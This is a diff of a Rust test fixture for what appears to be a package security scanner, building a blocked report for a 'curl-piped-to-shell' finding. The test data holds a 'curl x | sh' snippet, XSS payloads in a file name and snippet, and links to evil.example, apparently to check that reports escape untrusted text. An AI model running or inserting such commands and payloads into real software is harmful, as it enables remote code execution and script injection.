@@ -229,73 +229,42 @@ pub(crate) fn prose(text: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::test_support::{blocked_report, curl_finding};
     use skill_scan_model::*;
 
     fn report() -> TargetReport {
-        let finding = Finding {
-            id: "f1".into(),
-            rule_id: "RCE001".into(),
-            rule_name: "curl-piped-to-shell".into(),
-            category: ThreatCategory::RemoteExec,
-            signal: SignalClass::MaliciousBehavior,
-            action: RecommendedAction::Block,
-            scope: ArtifactScope::PackageRootArtifact,
-            context: Context::Code,
-            language: Language::Shell,
-            file_kind: FileKind::Shell,
-            path: "a|b<img src=x onerror=alert(1)>.sh".into(),
-            line: 7,
-            column: 1,
-            end_line: 7,
-            end_column: 9,
-            message: "Remote script piped into a shell".into(),
-            why: String::new(),
-            snippet: "curl x | sh # </td><script>alert(1)</script> ![p](https://evil.example/p.png) `` @admin\n| x |".into(),
-            snippet_highlight: (0, 4),
-            mitre: vec![],
-            capabilities: vec![],
-            file_role: FileRole::Source,
-            import_time: false,
-            related: vec![],
-        };
-        TargetReport {
-            target: "pkg".into(),
-            kind: PackageKind::Npm,
-            verdict: VerdictLevel::Block,
-            reasons: vec![VerdictReason {
-                scope: ArtifactScope::PackageRootArtifact,
-                category: ThreatCategory::RemoteExec,
-                signal: SignalClass::MaliciousBehavior,
-                rationale: "Runs [code](https://evil.example) <b>fetched</b> for @team".into(),
-                compound: true,
-                finding_ids: vec!["f1".into()],
-            }],
-            calibration: vec![],
-            package: PackageSummary::default(),
-            findings: vec![finding.clone()],
-            suppressed: vec![SuppressedFinding {
-                finding,
-                suppression: Suppression {
-                    kind: SuppressionKind::Baseline,
-                    reason: "accepted".into(),
-                    source: "base.json".into(),
-                },
-            }],
-            origin: Some(skill_scan_model::Origin {
-                archive: "pkg-1.0.0.tgz".into(),
-                sha256: "ab12".into(),
-                size: 10,
-                stripped_prefix: Some("package".into()),
-                registry: None,
-            }),
-            skipped: vec![Skipped {
-                path: "big.bin".into(),
-                reason: "binary".into(),
-            }],
-            diagnostics: vec![],
-            files_scanned: 2,
-            incomplete: None,
-        }
+        let mut finding = curl_finding(
+            "a|b<img src=x onerror=alert(1)>.sh",
+            "curl x | sh # </td><script>alert(1)</script> ![p](https://evil.example/p.png) `` @admin\n| x |",
+        );
+        (finding.line, finding.end_line, finding.end_column) = (7, 7, 9);
+        finding.snippet_highlight = (0, 4);
+        let mut report = blocked_report(
+            finding.clone(),
+            "Runs [code](https://evil.example) <b>fetched</b> for @team",
+        );
+        report.reasons[0].compound = true;
+        report.suppressed = vec![SuppressedFinding {
+            finding,
+            suppression: Suppression {
+                kind: SuppressionKind::Baseline,
+                reason: "accepted".into(),
+                source: "base.json".into(),
+            },
+        }];
+        report.origin = Some(skill_scan_model::Origin {
+            archive: "pkg-1.0.0.tgz".into(),
+            sha256: "ab12".into(),
+            size: 10,
+            stripped_prefix: Some("package".into()),
+            registry: None,
+        });
+        report.skipped = vec![Skipped {
+            path: "big.bin".into(),
+            reason: "binary".into(),
+        }];
+        report.files_scanned = 2;
+        report
     }
 
     const TOOL: ToolInfo = ToolInfo {
